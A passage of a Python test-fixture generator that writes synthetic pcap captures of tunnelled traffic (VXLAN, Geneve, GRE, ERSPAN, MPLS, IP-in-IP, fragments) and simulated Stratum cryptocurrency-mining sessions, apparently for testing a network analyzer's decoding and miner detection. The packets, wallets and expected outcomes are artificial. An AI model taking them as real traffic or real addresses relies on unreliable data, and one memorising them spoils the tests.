    return struct.pack("!HHI", (1 << 12) | vlan, (cos << 13) | (en << 11) | (t << 10) | session,
                       index & 0xFFFFF)


def erspan3(session, timestamp, vlan=0, cos=0, bso=0, t=0, sgt=0, p=0, ft=0, hw=0, d=0,
            gra=0, o=0):
    return struct.pack("!HHIHH", (2 << 12) | vlan, (cos << 13) | (bso << 11) | (t << 10) | session,
                       timestamp, sgt, (p << 15) | (ft << 10) | (hw << 4) | (d << 3) | (gra << 1) | o)


def mpls_stack(labels, ttl=64):
    out = b""
    for i, label in enumerate(labels):
        out += struct.pack("!I", (label << 12) | ((i == len(labels) - 1) << 8) | ttl)
    return out


def inner_eth(l3, src_ip, dst_ip, tags=()):
    """The frame a pod's interface sends: Ethernet, no padding."""
    return eth(l3, mac_of(src_ip), mac_of(dst_ip), tags=tags, pad=False)


def l3_ends(l3):
    """(src, dst) address strings of an IPv4/IPv6 packet."""
    if l3[0] >> 4 == 6:
        return (str(ipaddress.ip_address(l3[8:24])), str(ipaddress.ip_address(l3[24:40])))
    return (str(ipaddress.ip_address(l3[12:16])), str(ipaddress.ip_address(l3[16:20])))


class Overlay:
    """link(l3, from_client) for a tunnel between two nodes: `wrap(l3, s, d,
    i)` builds the outer L3 (s, d = the sending and receiving node, i = a
    per-overlay packet counter); the result goes into outer Ethernet."""

    def __init__(self, a, b, wrap, outer_tags=(), ipid=0x100):
        self.a, self.b, self.wrap, self.tags = a, b, wrap, outer_tags
        self.i = 0
        self.ipid = {a: ipid, b: ipid + 0x1000}

    def __call__(self, l3, fc):
        s, d = (self.a, self.b) if fc else (self.b, self.a)
        outer = self.wrap(l3, s, d, self.i, self.ipid[s])
        self.i += 1
        self.ipid[s] += 1
        return eth(outer, node_mac(s), node_mac(d), tags=self.tags)


def vxlan_link(a, b, vni, port=4789, outer_tags=(), inner_tags=()):
    def wrap(l3, s, d, i, ipid):
        ps, pd = l3_ends(l3)
        frame = inner_eth(l3, ps, pd, inner_tags)
        return udp_carry(s, hash_port("vxlan", vni, s, i), d, port, vxlan_hdr(vni) + frame,
                         ipid=ipid, csum=False)
    return Overlay(a, b, wrap, outer_tags)


def add_rows(cap, t, rows, link):
    for dt, fc, l3 in rows:
        cap.add(t + dt, link(l3, fc))


def udp_rows(cli, cport, srv, sport, req, rep, ipid=300, dt=0.001):
    return [(0.0, True, udp(cli, cport, srv, sport, req, ipid=ipid)),
            (dt, False, udp(srv, sport, cli, cport, rep, ipid=ipid + 1000))]


def dns_rows(cli, cport, srv, qid, name, answer, ipid=300, dt=0.001):
    qtype = "AAAA" if ":" in answer else "A"
    return udp_rows(cli, cport, srv, 53, dns_query(qid, name, qtype),
                    dns_answer(qid, name, qtype, answer), ipid, dt)


def http_rows(cli, cport, srv, sport, cisn=0x1000, sisn=0x8000):
    """The 10-packet HTTP exchange of http_flow() as rows."""
    c = Tcp(cli, cport, srv, sport, cisn, sisn)
    return [(0.000, True, c.syn()), (0.020, False, c.synack()), (0.0201, True, c.ack(True)),
            (0.0203, True, c.data(True, HTTP_REQ)), (0.040, False, c.ack(False)),
            (0.045, False, c.data(False, HTTP_RESP)), (0.0452, True, c.ack(True)),
            (0.050, True, c.fin(True)), (0.070, False, c.fin(False)),
            (0.0701, True, c.ack(True))]


NODE1, NODE2 = "192.0.2.11", "192.0.2.12"


def cap_vxlan():
    cap = Cap("vxlan.pcap", LT_ETH, "VXLAN (RFC 7348): HTTP between pods 10.244.1.10 and "
              "10.244.2.20:8080 in VNI 4096 on UDP 4789 (Calico style), handshake to FIN, "
              "outer addresses swapped for replies and a distinct outer UDP source port on "
              "every packet (1 flow, not 10 outer ones); DNS between pods in VNI 1 on UDP "
              "8472 (flannel) with an 802.1Q tag 10 on the outer Ethernet; one UDP/4789 "
              "packet whose VXLAN header lacks the I flag (a plain UDP flow, inner frame "
              "not decoded)")
    add_rows(cap, 0.0, http_rows("10.244.1.10", 45000, "10.244.2.20", 8080, 0x1A000, 0x2B000),
             vxlan_link(NODE1, NODE2, 4096))
    add_rows(cap, 0.03, dns_rows("10.244.1.11", 38000, "10.244.2.53", 0x0F1A,
                                 "db.default.svc.cluster.local", "10.244.2.30", ipid=40),
             vxlan_link(NODE1, NODE2, 1, port=8472, outer_tags=[(TPID_8021Q, 10, 0)]))
    probe = inner_eth(udp("10.244.3.10", 40000, "10.244.2.20", 9999, b"not vxlan"),
                      "10.244.3.10", "10.244.2.20")
    cap.add(0.5, eth(udp_carry("192.0.2.13", 47000, NODE2, 4789, vxlan_hdr(4096, flags=0x00)
                               + probe, ipid=77, csum=False),
                     node_mac("192.0.2.13"), node_mac(NODE2)), note="UDP/4789 without I flag")
    cap.recs.sort(key=lambda r: r.ts_us)
    sports = [struct.unpack_from("!H", r.data, (18 if r.data[12:14] == b"\x81\x00" else 14) + 20)[0]
              for r in cap.recs]
    assert len(set(sports)) == len(sports), "outer source ports must differ"
    return cap


def cap_vxlan_two_vni():
    cap = Cap("vxlan_two_vni.pcap", LT_ETH, "VXLAN: the same inner TCP 5-tuple "
              "(10.244.1.10:45100 -> 10.244.2.20:80, same nodes, same outer port 4789) in "
              "VNI 100 and in VNI 200, interleaved: two tenants with overlapping addresses "
              "= 2 flows")
    add_rows(cap, 0.0, tcp_small("10.244.1.10", 45100, "10.244.2.20", 80, 0x10000),
             vxlan_link(NODE1, NODE2, 100))
    add_rows(cap, 0.0005, tcp_small("10.244.1.10", 45100, "10.244.2.20", 80, 0x20000),
             vxlan_link(NODE1, NODE2, 200))
    cap.recs.sort(key=lambda r: r.ts_us)
    return cap


def geneve_link(a, b, vni, ptype, opts=b"", crit=False):
    def wrap(l3, s, d, i, ipid):
        if ptype == ETH_TEB:
            ps, pd = l3_ends(l3)
            l3 = inner_eth(l3, ps, pd)
        return udp_carry(s, hash_port("geneve", vni, s, i), d, 6081,
                         geneve_hdr(vni, ptype, opts, crit=crit) + l3, ipid=ipid)
    return Overlay(a, b, wrap)


def cap_geneve():
    cap = Cap("geneve.pcap", LT_ETH, "Geneve (RFC 8926) on UDP 6081 between nodes "
              "192.0.2.21 and 192.0.2.22: VNI 5, C bit, with two options (OVN class 0x0102 "
              "type 0x80 (critical), 4 data bytes; class 0x0103 type 0x01, 8 data bytes; "
              "optlen 5 words) carrying inner "
              "Ethernet + TCP (10.244.3.10 -> 10.244.4.20:5432); VNI 7 with protocol 0x0800 "
              "carrying inner IPv4 UDP DNS directly; VNI 7 with protocol 0x86dd carrying "
              "inner IPv6 UDP DNS; all both directions")
    a, b = "192.0.2.21", "192.0.2.22"
    opts = geneve_opt(0x0102, 0x80, b"\x00\x01\x00\x02") + \
        geneve_opt(0x0103, 0x01, b"\x00\x00\x00\x2a\x00\x00\x00\x07")
    add_rows(cap, 0.0, tcp_small("10.244.3.10", 43000, "10.244.4.20", 5432, 0x30000),
             geneve_link(a, b, 5, ETH_TEB, opts, crit=True))
    add_rows(cap, 0.1, dns_rows("10.244.3.11", 41000, "10.244.4.21", 0x6E01,
                                "geneve.example.org", "203.0.113.21", ipid=60),
             geneve_link(a, b, 7, ETH_IPV4))
    add_rows(cap, 0.2, dns_rows("2001:db8:244:3::11", 41001, "2001:db8:244:4::21", 0x6E02,
                                "geneve.example.org", "2001:db8::21"),
             geneve_link(a, b, 7, ETH_IPV6))
    return cap


def gre_link(a, b, ptype, key=None, seq=False, csum=False, wrap_inner=None, in_udp=False,
             outer_tags=()):
    """GRE (in IP, or in UDP to 4754) between a and b; seq numbers count per
    sender; wrap_inner(l3) -> the GRE payload (default: the IP packet)."""
    nseq = {a: 1, b: 1}

    def wrap(l3, s, d, i, ipid):
        payload = wrap_inner(l3, i) if wrap_inner else l3
        g = gre(ptype, payload, key=key, seq=nseq[s] if seq else None, csum=csum)
        nseq[s] += 1
        if in_udp:
            return udp_carry(s, hash_port("gre-udp", s, i), d, 4754, g, ipid=ipid)
        return ip_carry(s, d, 47, g, ipid=ipid)
    return Overlay(a, b, wrap, outer_tags)


def cap_gre():
    cap = Cap("gre.pcap", LT_ETH, "GRE (RFC 2784/2890): C+K+S (checksum, key 1001, "
              "sequence) carrying IPv4 UDP DNS between 172.16.1.10 and 172.16.2.53; no "
              "options, over IPv6 (2001:db8:ffff:31::1 <-> 2001:db8:ffff:32::1), carrying "
              "IPv6 TCP (ssh port); TEB (0x6558) carrying Ethernet + IPv4 ICMP echo; "
              "GRE-in-UDP (RFC 8086, UDP 4754) carrying IPv4 UDP; all both directions")
    r1, r2 = "192.0.2.31", "192.0.2.32"
    add_rows(cap, 0.0, dns_rows("172.16.1.10", 40053, "172.16.2.53", 0x4701, "gre.example.org",
                                "203.0.113.31", ipid=10),
             gre_link(r1, r2, ETH_IPV4, key=1001, seq=True, csum=True))
    add_rows(cap, 0.1, tcp_small("2001:db8:a::10", 46000, "2001:db8:b::20", 22, 0x40000),
             gre_link("2001:db8:ffff:31::1", "2001:db8:ffff:32::1", ETH_IPV6))
    ping = [(0.0, True, icmp_echo("172.16.1.10", "172.16.2.20", 11, True, 0x4711, 1)),
            (0.001, False, icmp_echo("172.16.2.20", "172.16.1.10", 12, False, 0x4711, 1))]
    add_rows(cap, 0.2, ping, gre_link(r1, r2, ETH_TEB,
                                      wrap_inner=lambda l3, i: inner_eth(l3, *l3_ends(l3))))
    add_rows(cap, 0.3, udp_rows("172.16.3.10", 40123, "172.16.4.20", 123, b"\x23" + b"\x00" * 47,
                                b"\x24" + b"\x01" * 47, ipid=20),
             gre_link("192.0.2.33", "192.0.2.34", ETH_IPV4, in_udp=True))
    return cap


def cap_erspan():
    cap = Cap("erspan.pcap", LT_ETH, "ERSPAN mirror traffic from switch 192.0.2.41 to "
              "collector 192.0.2.42 (one way, both directions of each mirrored "
              "conversation inside): type II (GRE S bit, protocol 0x88be, session 7, "
              "header VLAN field 30, En=3) with an outer 802.1Q tag 5 and a mirrored frame "
              "tagged 30 carrying TCP (flow vlan [5, 30]; the ERSPAN header's VLAN field is "
              "not a tag); type III (protocol 0x22eb, session 9, o=0) carrying UDP DNS; "
              "type I (protocol 0x88be, no S bit, no ERSPAN header) carrying UDP SNMP")
    sw, col = "192.0.2.41", "192.0.2.42"

    def mirror(ptype, seq, hdr, inner_tags=(), outer_tags=()):
        def wrap(l3, s, d, i, ipid):
            frame = eth(l3, *[mac_of(x) for x in l3_ends(l3)], tags=inner_tags)  # as on the port
            return ip_carry(sw, col, 47, gre(ptype, hdr(i) + frame, seq=i if seq else None),
                            ipid=ipid)
        return Overlay(sw, col, wrap, outer_tags)

    def one_way(link):
        def f(l3, fc):
            return link(l3, True)  # the mirror session only goes switch -> collector
        return f
    add_rows(cap, 0.0, tcp_small("10.30.0.10", 50100, "10.30.0.20", 443, 0x50000),
             one_way(mirror(ETH_ERSPAN2, True, lambda i: erspan2(7, vlan=30, en=3, index=0x00011),
                            inner_tags=[(TPID_8021Q, 30, 0)], outer_tags=[(TPID_8021Q, 5, 0)])))
    add_rows(cap, 0.1, dns_rows("10.30.1.10", 40100, "10.30.1.53", 0x5E01, "erspan.example.org",
                                "203.0.113.41", ipid=30),
             one_way(mirror(ETH_ERSPAN3, True, lambda i: erspan3(9, 0x1000 + 20 * i, hw=1, gra=1))))
    oid = ASN1_OID("1.3.6.1.2.1.1.5.0")  # sysName.0
    get = raw(SNMP(community="public", PDU=SNMPget(id=0x0501, varbindlist=[
        SNMPvarbind(oid=oid, value=ASN1_NULL(0))])))
    resp = raw(SNMP(community="public", PDU=SNMPresponse(id=0x0501, varbindlist=[
        SNMPvarbind(oid=oid, value=ASN1_STRING(b"switch-1.example.org"))])))
    add_rows(cap, 0.2, udp_rows("10.30.2.10", 40200, "10.30.2.20", 161, get, resp, ipid=50),
             one_way(mirror(ETH_ERSPAN2, False, lambda i: b"")))
    return cap


def ipip_link(a, b):
    def wrap(l3, s, d, i, ipid):
        return ip_carry(s, d, 41 if l3[0] >> 4 == 6 else 4, l3, ipid=ipid)
    return Overlay(a, b, wrap)


def cap_ipip():
    cap = Cap("ipip.pcap", LT_ETH, "IP-in-IP: 4in4 (protocol 4), 6in4 (protocol 41) between "
              "192.0.2.51 and 192.0.2.52; 4in6 (next header 4), 6in6 (next header 41) between "
              "2001:db8:ffff:51::1 and 2001:db8:ffff:52::1; each one UDP echo exchange, both "
              "directions")
    v4a, v4b, v6a, v6b = "192.0.2.51", "192.0.2.52", "2001:db8:ffff:51::1", "2001:db8:ffff:52::1"
    add_rows(cap, 0.0, udp_rows("10.51.0.1", 40001, "10.52.0.1", 7, b"4in4", b"4in4", ipid=1),
             ipip_link(v4a, v4b))
    add_rows(cap, 0.1, udp_rows("2001:db8:51::1", 40002, "2001:db8:52::1", 7, b"6in4", b"6in4"),
             ipip_link(v4a, v4b))
    add_rows(cap, 0.2, udp_rows("10.51.0.2", 40003, "10.52.0.2", 7, b"4in6", b"4in6", ipid=2),
             ipip_link(v6a, v6b))
    add_rows(cap, 0.3, udp_rows("2001:db8:51::2", 40004, "2001:db8:52::2", 7, b"6in6", b"6in6"),
             ipip_link(v6a, v6b))
    return cap


def cap_mpls():
    cap = Cap("mpls.pcap", LT_ETH, "MPLS (ethertype 0x8847) between two LSRs, a different "
              "label stack per direction (the flow's tunnel shows the first packet's top "
              "label): 1 label to IPv4 TCP, 2 labels to IPv6 TCP, 2 labels to IPv4 TCP, 1 "
              "label to IPv6 TCP; bytes count from the IP header")
    lsr1, lsr2 = bytes.fromhex("02000000a001"), bytes.fromhex("02000000a002")

    def link(fwd, rev):
        def f(l3, fc):
            labels, s, d = (fwd, lsr1, lsr2) if fc else (rev, lsr2, lsr1)
            return eth(mpls_stack(labels) + l3, s, d, ethertype=0x8847)
        return f
    add_rows(cap, 0.0, tcp_small("10.60.0.10", 47000, "10.61.0.20", 80, 0x60000),
             link([16001], [16002]))
    add_rows(cap, 0.1, tcp_small("2001:db8:60::10", 47001, "2001:db8:61::20", 443, 0x61000),
             link([16010, 100], [16011, 101]))
    add_rows(cap, 0.2, tcp_small("10.60.0.11", 47002, "10.61.0.21", 25, 0x62000),
             link([16020, 200], [16021, 201]))
    add_rows(cap, 0.3, tcp_small("2001:db8:60::11", 47003, "2001:db8:61::21", 8443, 0x63000),
             link([16030], [16031]))
    return cap


def cap_nested():
    cap = Cap("nested.pcap", LT_ETH, "nested tunnels: VXLAN (VNI 300, nodes 192.0.2.11/12) "
              "inside GRE (key 5, routers 192.0.2.61/62) carrying pod TCP, both directions "
              "(tunnel [gre, vxlan]); IP-in-IP 4 deep (4 ipip layers, the cap) with UDP, "
              "both directions; IP-in-IP 5 deep: decode error too_many_layers, not attributed")
    vx = vxlan_link(NODE1, NODE2, 300)

    def vx_in_gre(l3, s, d, i, ipid):
        return ip_carry(s, d, 47, gre(ETH_IPV4, vx(l3, s == "192.0.2.61")[14:], key=5), ipid=ipid)
    add_rows(cap, 0.0, tcp_small("10.244.5.10", 45500, "10.244.6.20", 9090, 0x70000),
             Overlay("192.0.2.61", "192.0.2.62", vx_in_gre))
    hops = [("192.0.2.71", "192.0.2.72"), ("192.0.2.73", "192.0.2.74"),
            ("192.0.2.75", "192.0.2.76"), ("192.0.2.77", "192.0.2.78"),
            ("192.0.2.79", "192.0.2.80")]

    def deep(n):
        def f(l3, fc):
            for a, b in reversed(hops[:n]):  # innermost tunnel first
                s, d = (a, b) if fc else (b, a)
                l3 = ip_carry(s, d, 4, l3, ipid=n)
            return eth(l3, *(MAC_CLIENT, MAC_SERVER) if fc else (MAC_SERVER, MAC_CLIENT))
        return f
    add_rows(cap, 0.1, udp_rows("10.70.0.1", 40070, "10.70.0.2", 7, b"four deep", b"four deep",
                                ipid=70), deep(4))
    cap.add(0.2, deep(5)(udp("10.70.0.1", 40071, "10.70.0.2", 7, b"five deep", ipid=71), True),
            "error", note="IP-in-IP 5 deep (5 tunnel layers)")
    return cap


def cap_tunnel_damaged():
    cap = Cap("tunnel_damaged.pcap", LT_ETH, "damaged and unsupported tunnels: UDP/4789 with "
              "a 4-byte VXLAN header (I flag set) -> decode error at vxlan (truncated); "
              "Geneve with optlen 10 words and 12 option bytes present -> truncated; GRE "
              "version 1 (PPTP, protocol 0x880b) carrying PPP -> unsupported; GRE with the "
              "routing bit -> malformed; interleaved with one good VXLAN UDP DNS flow")
    good = dns_rows("10.244.7.10", 40700, "10.244.8.53", 0xDA01, "ok.example.org",
                    "203.0.113.71", ipid=80)
    link = vxlan_link(NODE1, NODE2, 4096)
    cap.add(0.0, link(good[0][2], True))
    k = 0.01

    def bad(l3, expect, note):
        nonlocal k
        cap.add(k, eth(l3, node_mac(NODE1), node_mac(NODE2)), expect, note=note)
        k += 0.01
    bad(udp_carry(NODE1, hash_port("cut"), NODE2, 4789, b"\x08\x00\x00\x00", ipid=90,
                  csum=False), "error", "VXLAN header of 4 bytes")
    bad(udp_carry("192.0.2.21", hash_port("geneve-cut"), "192.0.2.22", 6081,
                  geneve_hdr(5, ETH_TEB, geneve_opt(0x0102, 0x80, b"\x00\x01\x00\x02")
                             + b"\x00" * 4, optlen=10, crit=True), ipid=91),
        "error", "Geneve optlen 40 bytes, 12 present")
    ppp = b"\xff\x03\x00\xfd" + bytes(range(0x40, 0x60))  # MPPE-compressed datagram
    pptp = struct.pack("!HHHHI", GRE_K | GRE_S | 1, ETH_PPP, len(ppp), 0x1234, 1) + ppp
    bad(ip_carry("192.0.2.81", "192.0.2.82", 47, pptp, ipid=92), "unsupported",
        "GRE version 1 (PPTP) carrying PPP")
    inner = udp("172.16.9.1", 40900, "172.16.9.2", 9, b"routed")
    sre = struct.pack("!HBB", ETH_IPV4, 0, 4) + ipaddress.ip_address("192.0.2.99").packed \
        + struct.pack("!HBB", 0, 0, 0)
    bad(ip_carry("192.0.2.81", "192.0.2.82", 47,
                 struct.pack("!HHHH", GRE_R, ETH_IPV4, 0, 0) + sre + inner, ipid=93),
        "error", "GRE with the routing bit (RFC 1701 source route)")
    cap.add(k, link(good[1][2], False))
    return cap


def vx_outer(l3, s, d, vni, sport, ipid=0):
    """The outer IPv4/IPv6 + UDP/4789 + VXLAN packet around the pod packet l3
    (inner Ethernet with pod MACs); outer UDP checksum 0 over IPv4."""
    ps, pd = l3_ends(l3)
    return udp_carry(s, sport, d, 4789, vxlan_hdr(vni) + inner_eth(l3, ps, pd), ipid=ipid,
                     csum=":" in s)


def cap_vxlan_frag():
    cap = Cap("vxlan_frag.pcap", LT_ETH, "reassembly and VXLAN (VNI 4096 between nodes "
              "192.0.2.11 and 192.0.2.12 unless said): (a) OUTER fragments: pod UDP "
              "10.244.1.10:40100 <-> 10.244.2.20:9000 with 1600-byte payloads, each VXLAN "
              "packet's outer IPv4 datagram in 2 fragments (the first with the outer UDP, "
              "VXLAN and inner headers), request in order, reply last fragment first, "
              "distinct outer source ports: one inner flow, tunnel from the reassembled "
              "first packet; the same over outer IPv6 (2001:db8:ffff:11::1 -> "
              "2001:db8:ffff:12::1, VNI 4097, fragment header) with an unfragmented reply; "
              "(b) INNER fragments: pod UDP 10.244.1.12 -> 10.244.2.22:9002 fragmented by "
              "the pod in 3, each fragment in its own VXLAN packet, interleaved with the "
              "same inner datagram (addresses, ports, id) in VNI 4098: two datagrams, two "
              "flows, each with an unfragmented reply; (c) BOTH: pod UDP 10.244.1.13:40103 "
              "<-> 10.244.2.23:9003 with 2000-byte payloads fragmented by the pod in 2, the "
              "VXLAN packet of the first inner fragment fragmented again outside, both "
              "ways: request = outer fragments (their reassembly holds an inner fragment) "
              "then the plain VXLAN packet completing the inner datagram; reply = plain "
              "VXLAN packet first, then the outer fragments whose reassembly completes "
              "the inner datagram")
    n1, n2 = NODE1, NODE2
    sports = []

    def out(l3, s, d, tag, ipid=0, vni=4096):
        sports.append(hash_port("vxlan_frag", tag))
        return vx_outer(l3, s, d, vni, sports[-1], ipid)

    def add(t, l3, s, d, expect="flow", then=None, note=None):
        cap.add(t, eth(l3, node_mac(s), node_mac(d)), expect, then=then, note=note)
    # (a) outer IPv4 fragments, both ways
    a, b = "10.244.1.10", "10.244.2.20"
    o = out(udp(a, 40100, b, 9000, bytes(range(200)) * 8, ipid=0x7001), n1, n2, "a1", 0x7100)
    n = l4_len(o)
    assert n == 8 + 8 + 14 + 20 + 8 + 1600
    add(0.0, ip4_frag(o, 0, 1480), n1, n2, "frag")
    add(0.0001, ip4_frag(o, 1480, n - 1480), n1, n2, "frag", "flow")
    o = out(udp(b, 9000, a, 40100, bytes(range(199, -1, -1)) * 8, ipid=0x7002), n2, n1, "a2",
            0x7200)
    add(0.01, ip4_frag(o, 1480, n - 1480), n2, n1, "frag")
    add(0.0101, ip4_frag(o, 0, 1480), n2, n1, "frag", "flow")
    # (a') outer IPv6 fragments
    s6, d6 = "2001:db8:ffff:11::1", "2001:db8:ffff:12::1"
    a, b = "10.244.1.11", "10.244.2.21"
    o = out(udp(a, 40101, b, 9001, (b"IPv6 outer fragments. " * 73)[:1600], ipid=0x7003), s6, d6,
            "a3", vni=4097)
    n = len(o) - 40
    assert n == 1658
    add(0.05, ip6_frag(o, 0, 1448, 0x71000001), s6, d6, "frag")
    add(0.0501, ip6_frag(o, 1448, n - 1448, 0x71000001), s6, d6, "frag", "flow")
    add(0.06, out(udp(b, 9001, a, 40101, b"ok", ipid=0x7004), d6, s6, "a4", vni=4097), d6, s6)
    # (b) inner fragments, the same datagram in VNI 4096 and VNI 4098
    a, b = "10.244.1.12", "10.244.2.22"
    inner = {4096: udp(a, 40102, b, 9002, b"inner fragments, VNI 4096. " * 15, ipid=0x7300),
             4098: udp(a, 40102, b, 9002, b"INNER FRAGMENTS, VNI 4098! " * 15, ipid=0x7300)}
    assert l4_len(inner[4096]) == l4_len(inner[4098]) == 413
    t = 0.1
    for off, n in ((0, 136), (136, 136), (272, 141)):
        for vni in (4096, 4098):
            add(t, out(ip4_frag(inner[vni], off, n), n1, n2, ("b", vni, off), 0x7310 + off,
                       vni=vni), n1, n2, "frag", "flow" if off == 272 else None)
            t += 0.0001
    for vni in (4096, 4098):
        add(t, out(udp(b, 9002, a, 40102, b"got it", ipid=0x7400), n2, n1, ("b", vni), 0x7400,
                   vni=vni), n2, n1)
        t += 0.0001
    # (c) both: outer fragments of a VXLAN packet carrying an inner fragment
    a, b = "10.244.1.13", "10.244.2.23"
    req = udp(a, 40103, b, 9003, b"both at once: " + bytes(1986), ipid=0x7500)
    rep = udp(b, 9003, a, 40103, b"BOTH AT ONCE: " + bytes(1986), ipid=0x7600)
    assert l4_len(req) == 2008
    o = out(ip4_frag(req, 0, 1480), n1, n2, "c1", 0x7501)
    assert l4_len(o) == 1530
    add(0.2, ip4_frag(o, 0, 1480), n1, n2, "frag")
    add(0.2001, ip4_frag(o, 1480, 50), n1, n2, "frag", "held",
        note="completes the outer datagram: an inner fragment, held")
    add(0.2002, out(ip4_frag(req, 1480, 528), n1, n2, "c2", 0x7502), n1, n2, "frag", "flow",
        note="plain VXLAN packet, last inner fragment")
    add(0.21, out(ip4_frag(rep, 1480, 528), n2, n1, "c3", 0x7601), n2, n1, "frag",
        note="plain VXLAN packet, last inner fragment")
    o = out(ip4_frag(rep, 0, 1480), n2, n1, "c4", 0x7602)
    add(0.2101, ip4_frag(o, 1480, 50), n2, n1, "frag")
    add(0.2102, ip4_frag(o, 0, 1480), n2, n1, "frag", "flow",
        note="completes the outer datagram, then the inner one")
    assert len(set(sports)) == len(sports), "outer source ports must differ"
    cap.defrag_expect = {"reassembled": 9}
    return cap


# --------------------------------------------------------------------------
# Stratum captures (issue 4). Every miner and pool message below is one JSON
# line as the named software writes it (key order, spacing and line ends vary
# from session to session, as they do between miners); hashes, nonces and
# wallets come from a fixed PRNG (prng()), so every run writes the same bytes.
# The expected stratum objects, alerts, reassembly counters and periodic
# records are not written here: the reference model above (FlowL7) derives
# them from the packets.

def prng(label, n):
    """n deterministic pseudo-random bytes named by label."""
    out, i = b"", 0
    while len(out) < n:
        out += hashlib.sha256(b"davy:%s:%d" % (label.encode(), i)).digest()
        i += 1
    return out[:n]


def phex(label, n):
    return prng(label, (n + 1) // 2).hex()[:n]


def palpha(label, n, alphabet):
    return "".join(alphabet[b % len(alphabet)] for b in prng(label, n))


def xmr_wallet(label):
    """A Monero standard address by shape: 95 base58 characters, '4' then a
    non-zero digit or A/B (no checksum: davy classifies by shape only)."""
    return "4" + palpha(label + "/2", 1, "123456789AB") + palpha(label, 93, BASE58)


def btc_bech32(label):
    return "bc1q" + palpha(label, 38, BECH32)


def btc_legacy(label, first="1"):
    return first + palpha(label, 33, BASE58)


def eth_wallet(label, mixed=False):
    h = phex(label, 40)
    if mixed:  # EIP-55-looking mixed case
        h = "".join(ch.upper() if ch.isalpha() and b & 1 else ch
                    for ch, b in zip(h, prng(label + "/case", 40)))
    return "0x" + h


XMR_DEMO = ("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RV"
            "GQBEP3A")
XMRIG_AGENT = "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"
# (separators, line end) per style: miners and pools differ in both
STYLES = [((",", ":"), "\n"), ((", ", ": "), "\n"), ((",", ":"), "\r\n"), ((", ", ": "), "\n")]


def jl(obj, v=0, rot=0):
    """One JSON line in style v; rot rotates the top-level keys (key order
    differs between implementations)."""
    keys = list(obj)
    k = rot % len(keys)
    obj = {key: obj[key] for key in keys[k:] + keys[:k]}
    sep, eol = STYLES[v % len(STYLES)]
    return (json.dumps(obj, separators=sep) + eol).encode()


# ---- Stratum v1 (cgminer / bfgminer and a pool like ckpool)
def v1_script(v, login, agent, diff, tag, reject=False, extra_jobs=0, sub_params=None):
    """Subscribe, authorize, difficulty, notify, submits; v: style.
    sub_params: mining.subscribe's params (default [agent])."""
    r = v  # key order follows the style
    e1 = phex(tag + "/en1", 8)
    sub = [["mining.set_difficulty", phex(tag + "/sd", 32)], ["mining.notify", phex(tag + "/sn", 32)]]

    def notify(j, clean):
        return jl({"id": None, "method": "mining.notify",
                   "params": [j, phex(tag + j + "/prev", 64), phex(tag + j + "/cb1", 118),
                              phex(tag + j + "/cb2", 76), [phex(tag + j + "/m%d" % i, 64) for i in range(3)],
                              "20000000", "1703a30c", "65920%03x" % (0x80 + len(j)), clean]}, v, r)

    def submit(i, j):
        return jl({"id": i, "method": "mining.submit",
                   "params": [login, j, phex(tag + j + "/en2", 8), "65920%03x" % 0x90,
                              phex(tag + j + "/nonce", 8)]}, v, r)
    sends = [
        ("c", 0.0, [jl({"id": 1, "method": "mining.subscribe", "params": sub_params or [agent]},
                       v, r)]),
        ("s", 0.025, [jl({"id": 1, "result": [sub, e1, 4], "error": None}, v, r)]),
        ("c", 0.0005, [jl({"id": 2, "method": "mining.authorize", "params": [login, "x"]}, v, r)]),
    ]
    if v % 2:
        sends.append(("c", 0.0005, [jl({"id": 3, "method": "mining.extranonce.subscribe",
                                        "params": []}, v, r)]))
    sends += [
        ("s", 0.025, [jl({"id": 2, "result": True, "error": None}, v, r),
                      jl({"id": None, "method": "mining.set_difficulty", "params": [diff]}, v, r),
                      notify("4f3a%d" % v, True)]),
        ("c", 0.41, [submit(4, "4f3a%d" % v)]),
        ("s", 0.021, [jl({"id": 4, "result": True, "error": None}, v, r)]),
        ("s", 0.33, [notify("4f3b%d" % v, False)]),
        ("c", 0.27, [submit(5, "4f3b%d" % v)]),
        ("s", 0.021, [jl({"id": 5, "result": None, "error": [23, "Low difficulty share", None]}, v, r)
                      if reject else jl({"id": 5, "result": True, "error": None}, v, r)]),
    ]
    for k in range(extra_jobs):
        sends.append(("s", 0.2, [notify("4f4%d%d" % (k, v), k == 0)]))
        sends.append(("c", 0.1, [submit(6 + k, "4f4%d%d" % (k, v))]))
        sends.append(("s", 0.02, [jl({"id": 6 + k, "result": True, "error": None}, v, r)]))
    return sends


# ---- EthereumStratum/1.0.0 (NiceHash)
def es_script(v, login, agent, diff, tag, extranonce_sub=False):
    r = v + 1

    def notify(j, clean):
        return jl({"id": None, "method": "mining.notify",
                   "params": [j, phex(tag + j + "/seed", 64), phex(tag + j + "/hdr", 64), clean]}, v, r)
    sends = [
        ("c", 0.0, [jl({"id": 1, "method": "mining.subscribe",
                        "params": [agent, "EthereumStratum/1.0.0"]}, v, r)]),
        ("s", 0.03, [jl({"id": 1, "result": [["mining.notify", phex(tag + "/sid", 32),
                                               "EthereumStratum/1.0.0"], phex(tag + "/en", 4)],
                         "error": None}, v, r)]),
    ]
    if extranonce_sub:
        sends.append(("c", 0.0004, [jl({"id": 2, "method": "mining.extranonce.subscribe",
                                        "params": []}, v, r)]))
    sends += [
        ("c", 0.0004, [jl({"id": 3, "method": "mining.authorize", "params": [login, "x"]}, v, r)]),
        ("s", 0.03, [jl({"id": 3, "result": True, "error": None}, v, r),
                     jl({"id": None, "method": "mining.set_difficulty", "params": [diff]}, v, r),
                     notify("bf0488aa%d" % v, True)]),
        ("c", 0.52, [jl({"id": 4, "method": "mining.submit",
                         "params": [login, "bf0488aa%d" % v, phex(tag + "/n1", 12)]}, v, r)]),
        ("s", 0.02, [jl({"id": 4, "result": True, "error": None}, v, r)]),
        ("s", 0.4, [notify("bf0488ab%d" % v, False)]),
        ("c", 0.3, [jl({"id": 5, "method": "mining.submit",
                        "params": [login, "bf0488ab%d" % v, phex(tag + "/n2", 12)]}, v, r)]),
        ("s", 0.02, [jl({"id": 5, "result": True, "error": None}, v, r)]),
    ]
    return sends


# ---- eth-proxy (ethminer -P http/stratum1+tcp style getwork over TCP)
def ep_script(v, login, worker, tag, n_submits=1):
    r = v + 2

    def work(i, k):
        return jl({"id": i, "jsonrpc": "2.0",
                   "result": ["0x" + phex(tag + "/hdr%d" % k, 64), "0x" + phex(tag + "/seed", 64),
